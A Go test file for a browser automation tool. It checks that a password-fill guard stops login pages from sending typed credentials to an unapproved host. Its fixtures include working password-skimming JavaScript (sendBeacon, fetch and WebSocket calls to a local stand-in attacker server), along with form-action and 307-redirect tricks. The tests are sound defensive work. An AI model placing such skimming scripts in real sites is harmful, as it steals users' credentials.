package browser

import (
	"bytes"
	"context"
	"crypto/sha1"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestFillRefusedOnUnnamedHost: a login page on a host the target file does
// not name never receives the user's credentials.
func TestFillRefusedOnUnnamedHost(t *testing.T) {
	d := startDemo(t)
	s := newSession(t, shared)
	s.GuardFills([]string{"login.example.test:443"})
	ctx := context.Background()
	if err := s.Navigate(ctx, d.URL+"/login"); err != nil {
		t.Fatal(err)
	}
	err := s.Run(ctx, loginScript, user)
	if err == nil || !strings.Contains(err.Error(), "refusing to type") {
		t.Fatalf("want a refusal to type into %s, got %v", d.URL, err)
	}
	if d.count("/consent") != 0 {
		t.Fatal("the form was submitted")
	}
	if strings.Contains(err.Error(), "geheim-42") {
		t.Fatal("the error leaks the password")
	}
}

// recorder is the "second host": a listener on 127.0.0.2 that keeps every
// byte it receives, WebSocket frames unmasked, so a test can prove that no
// byte of a password got there.
type recorder struct {
	URL, WS string // http://127.0.0.2:port and ws://127.0.0.2:port
	mu      sync.Mutex
	got     bytes.Buffer
}

func (r *recorder) bytes() []byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]byte(nil), r.got.Bytes()...)
}

func (r *recorder) Write(p []byte) (int, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.got.Write(p)
}

type recordingConn struct {
	net.Conn
	r *recorder
}

func (c recordingConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	_, _ = c.r.Write(p[:n])
	return n, err
}

type recordingListener struct {
	net.Listener
	r *recorder
}

func (l recordingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	return recordingConn{c, l.r}, nil
}

func startRecorder(t *testing.T) *recorder {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Skipf("no second loopback address: %v", err)
	}
	r := &recorder{URL: "http://" + ln.Addr().String(), WS: "ws://" + ln.Addr().String()}
	mux := http.NewServeMux()
	mux.HandleFunc("/collect", func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.WriteHeader(http.StatusNoContent)
	})
	mux.HandleFunc("/font.png", func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "image/gif")
		_, _ = w.Write([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"))
	})
	mux.HandleFunc("/login", func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!doctype html><title>Inloggen</title>`+strings.Replace(loginForm, `action="/consent"`, `action="/collect"`, 1))
	})
	mux.HandleFunc("/ws", func(w http.ResponseWriter, req *http.Request) {
		sum := sha1.Sum([]byte(req.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
		conn, buf, err := w.(http.Hijacker).Hijack()
		if err != nil {
			return
		}
		defer conn.Close()
		fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n",
			base64.StdEncoding.EncodeToString(sum[:]))
		for { // client frames are masked: record their payloads in clear
			var h [2]byte
			if _, err := io.ReadFull(buf, h[:]); err != nil {
				return
			}
			n := int(h[1] & 0x7f)
			if n >= 126 {
				return // our pages send short messages
			}
			var key [4]byte
			payload := make([]byte, n)
			if _, err := io.ReadFull(buf, key[:]); err != nil {
				return
			}
			if _, err := io.ReadFull(buf, payload); err != nil {
				return
			}
			for i := range payload {
				payload[i] ^= key[i%4]
			}
			_, _ = r.Write(payload)
		}
	})
	srv := &http.Server{Handler: mux}
	go func() { _ = srv.Serve(recordingListener{ln, r}) }()
	t.Cleanup(func() { _ = srv.Close() })
	return r
}

// hostileAS is an authorization server's login pages, on a host the target
// file names, that try to send the typed password to the recorder.
func hostileAS(t *testing.T, evil *recorder) (base string, hits func(string) int32) {
	t.Helper()
	d := startDemo(t) // /consent, /approve and hit counts
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	page := func(w http.ResponseWriter, body string) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><html><head><title>Inloggen</title></head><body><h1>Inloggen</h1>%s</body></html>`, body)
	}
	form := func(action string) string { return strings.Replace(loginForm, `action="/consent"`, `action="`+action+`"`, 1) }
	// The demo's consent page, reached through this server.
	proxyTo := func(w http.ResponseWriter, r *http.Request, path string) {
		req, _ := http.NewRequest(r.Method, d.URL+path, r.Body)
		req.Header = r.Header.Clone()
		res, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Do(req)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
			return
		}
		defer res.Body.Close()
		for k, v := range res.Header {
			w.Header()[k] = v
		}
		w.WriteHeader(res.StatusCode)
		_, _ = io.Copy(w, res.Body)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/consent", func(w http.ResponseWriter, r *http.Request) { proxyTo(w, r, "/consent") })
	mux.HandleFunc("/approve", func(w http.ResponseWriter, r *http.Request) { proxyTo(w, r, "/approve") })
	mux.HandleFunc("/form-elsewhere", func(w http.ResponseWriter, r *http.Request) { page(w, form(evil.URL+"/collect")) })
	mux.HandleFunc("/login-307", func(w http.ResponseWriter, r *http.Request) { page(w, form("/post-307")) })
	mux.HandleFunc("/post-307", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.URL+"/collect", http.StatusTemporaryRedirect)
	})
	mux.HandleFunc("/login-307-same", func(w http.ResponseWriter, r *http.Request) { page(w, form("/post-307-same")) })
	mux.HandleFunc("/post-307-same", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/consent", http.StatusTemporaryRedirect)
	})
	mux.HandleFunc("/login-beacon", func(w http.ResponseWriter, r *http.Request) {
		page(w, form("/consent")+`<script>
document.getElementById('password').addEventListener('input', e => {
  const v = e.target.value;
  navigator.sendBeacon('`+evil.URL+`/collect?p=' + encodeURIComponent(v), v);
  fetch('`+evil.URL+`/collect', {method: 'POST', mode: 'no-cors', body: v}).catch(() => {});
});
</script>`)
	})
	mux.HandleFunc("/login-ws", func(w http.ResponseWriter, r *http.Request) {
		page(w, form("/consent")+`<script>
// One socket opened before anything is typed, one after.
const early = new WebSocket('`+evil.WS+`/ws');
document.getElementById('password').addEventListener('input', e => {
  const v = e.target.value;
  try { early.send(v); } catch (_) {}
  const late = new WebSocket('`+evil.WS+`/ws?p=' + encodeURIComponent(v));
  late.onopen = () => late.send(v);
});
</script>`)
	})
	mux.HandleFunc("/login-cdn", func(w http.ResponseWriter, r *http.Request) {
		page(w, `<img id="logo" src="`+evil.URL+`/font.png">`+form("/consent"))
	})
	mux.HandleFunc("/to-evil-login", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, evil.URL+"/login", http.StatusFound)
	})
	srv := &http.Server{Handler: mux}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return "http://" + ln.Addr().String(), d.count
}

var loginOnly = loginScript[:3]

// waitUntil polls cond (state the browser reaches asynchronously) for up
// to d.
func waitUntil(d time.Duration, cond func() bool) bool {
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(20 * time.Millisecond)
	}
	return true
}

func hasKind(list []Blocked, kind string) bool {
	for _, b := range list {
		if b.Kind == kind {
			return true
		}
	}
	return false
}

// TestGuardKeepsPasswordOnNamedHosts: for each way a page on a named host
// can send a typed password elsewhere, not one byte of it reaches the other
// host, and Blocked says what was stopped. Each page is also run without the
// guard, to prove it really does send the password.
func TestGuardKeepsPasswordOnNamedHosts(t *testing.T) {
	needBrowser(t)
	evil := startRecorder(t)
	base, _ := hostileAS(t, evil)
	named := strings.TrimPrefix(base, "http://")
	password := []byte(user["password"])
	cases := []struct {
		name, path string
		kinds      []string // what Blocked must contain
		refused    bool     // the fill itself is refused
	}{
		{name: "form action elsewhere", path: "/form-elsewhere", kinds: []string{"form"}},
		{name: "307 of the login post", path: "/login-307", kinds: []string{"redirect"}},
		{name: "beacon and fetch", path: "/login-beacon", kinds: []string{"beacon", "fetch"}},
		{name: "websocket", path: "/login-ws", kinds: []string{"websocket"}},
		{name: "login page on an unnamed host", path: "/to-evil-login", refused: true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ctx := context.Background()
			// Without the guard the page gets the password out: the case
			// tests something.
			free := newSession(t, shared)
			if err := free.Navigate(ctx, base+tc.path); err != nil {
				t.Fatal(err)
			}
			if err := free.Run(ctx, loginOnly, user); err != nil {
				t.Fatal(err)
			}
			if !waitUntil(3*time.Second, func() bool { return bytes.Contains(evil.bytes(), password) }) {
				t.Fatalf("unguarded, the page did not send the password to %s; the case proves nothing", evil.URL)
			}
			_ = free.Close()
			evil.mu.Lock()
			evil.got.Reset()
			evil.mu.Unlock()

			s := newSession(t, shared)
			s.Guard([]string{named})
			if err := s.Navigate(ctx, base+tc.path); err != nil {
				t.Fatal(err)
			}
			err := s.Run(ctx, loginOnly, user)
			if tc.refused {
				if err == nil || !strings.Contains(err.Error(), "refusing to type") {
					t.Fatalf("want the fill refused, got %v", err)
				}
			} else if err != nil {
				t.Fatal(err)
			}
			waitUntil(3*time.Second, func() bool {
				for _, k := range tc.kinds {
					if !hasKind(s.Blocked(), k) {
						return false
					}
				}
				return true
			})
			time.Sleep(200 * time.Millisecond) // anything still on its way
			if got := evil.bytes(); bytes.Contains(got, password) {
				t.Fatalf("the password reached %s:\n%s", evil.URL, got)
			}
			blocked := s.Blocked()
			t.Logf("blocked: %+v", blocked)
			for _, k := range tc.kinds {
				if !hasKind(blocked, k) {
					t.Errorf("Blocked() = %+v, want a %q request", blocked, k)
				}
			}
			for _, b := range blocked {
				if strings.Contains(b.URL, user["password"]) {
					t.Errorf("Blocked() leaks the password: %+v", b)
				}
				if b.Kind != "other" && !strings.HasPrefix(b.URL, evil.URL) && !strings.HasPrefix(b.URL, evil.WS) {
					t.Errorf("blocked %+v, which is not a request to %s", b, evil.URL)
				}
			}
			if tc.refused && len(blocked) != 0 {
				t.Errorf("nothing was typed, yet Blocked() = %+v", blocked)
			}
		})
	}
}
